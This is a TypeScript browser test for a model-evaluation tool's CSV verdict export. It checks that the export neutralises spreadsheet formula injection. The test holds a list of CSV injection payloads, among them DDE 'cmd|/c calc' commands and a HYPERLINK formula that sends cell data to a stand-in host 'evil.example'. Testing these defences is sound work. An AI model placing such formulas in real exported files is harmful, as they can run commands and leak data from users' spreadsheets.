import Papa from 'papaparse';
import { expect, it } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import { asCandidateId, asCriterionId, asJudgeId, asTaskId } from '../../../src/domain/ids';
import {
  aCandidate,
  aCriterion,
  aJudge,
  aJudgment,
  aManifest,
  aModelPart,
  aPack,
  aResponse,
  aRun,
  aRunSpec,
  aTask,
  aVerdict,
  RUN_ID,
} from '../../support/builders';
import { aDesk } from '../../support/desk';
import { HOSTILE_MARKUP } from '../../support/inert-page';
import { savedFiles } from '../../support/saved-files';
import { showApp } from '../../support/show-app';

/** What spreadsheets run: commands, links that carry cells away, and the same behind a space, a quote or a line end. */
const FORMULAS = [
  `=HYPERLINK("https://evil.example/?"&A1,"open")`,
  `+cmd|'/c calc'!A1`,
  `-2+3+cmd|'/c calc'!A0`,
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '  =1+1',
  '"=1+1',
  '＝1+1',
  `=1+1\r\n=2+2,"=3+3"`,
  HOSTILE_MARKUP,
];

/** Every name a file, a pack or a model brings is hostile. */
async function showHostile(name: string): Promise<() => Promise<{ name: string; blob: Blob }[]>> {
  const test = await aDesk();
  const { storage } = test;
  const id = name.slice(0, 200);
  const [candidateId, judgeId] = [asCandidateId(`${id.slice(0, -1)}c`), asJudgeId(`${id.slice(0, -1)}j`)];
  const [taskId, criterionId] = [asTaskId(id), asCriterionId(id)];
  const tasks = [aTask({ id: taskId, title: name, rubric: [aCriterion({ id: criterionId, text: name })] })];
  const stored = await storage.packs.put(aPack({ manifest: aManifest({ name, version: '1.0.0' }), tasks }));
  if (!stored.ok) throw new Error(stored.failure.kind);
  const model = aModelPart({ quantisation: name });
  const spec = aRunSpec({
    ...{ packHash: stored.value, taskIds: [taskId] },
    candidates: [aCandidate({ candidateId, model })],
    judges: [aJudge({ judgeId, model })],
  });
  const names = { [candidateId]: name, [judgeId]: name };
  await storage.runs.put(aRun({ name, state: 'done', spec, names }));
  const { outcome } = aResponse();
  await storage.responses.add(
    aResponse({ candidateId, taskId, outcome: outcome.ok ? { ...outcome, text: name } : outcome }),
  );
  const verdicts = [aVerdict({ criterionId, reason: name, raw: name })];
  await storage.judgments.add(aJudgment({ candidateId, judgeId, taskId, verdicts }));
  await showApp(test, `#/export/${RUN_ID}`);
  return savedFiles();
}

it.each(FORMULAS)('no cell of the table runs, whatever model, pack or file brought: %s', async (name) => {
  const saved = await showHostile(name);
  await userEvent.click(page.getByRole('button', { name: 'Save verdicts as CSV' }));
  const [file] = await saved();
  // A browser that opens it shows or keeps a table, never a page.
  expect(file?.blob.type).toMatch(/^text\/csv/);
  expect(file?.name).toMatch(/^[\w.-]+\.csv$/);
  const text = (await file?.blob.text()) ?? '';
  const { data, errors } = Papa.parse<string[]>(text, { skipEmptyLines: true });
  expect(errors).toEqual([]);
  // One verdict: a line end within a name begins no row.
  expect(data).toHaveLength(2);
  const [head = [], row = []] = data;
  expect(row).toHaveLength(head.length);
  expect(row.filter((cell) => /^[\s"'\uFEFF]*$/.test(cell) || /^[^=+\-@＝＋－＠\s"]/u.test(cell))).toEqual(
    row,
  );
  // Nothing was taken out of a name to make it harmless.
  expect(row[head.indexOf('candidate')]?.replace(/^'/, '')).toBe(name);
  expect(Reflect.get(window, 'harmed')).toBeUndefined();
});
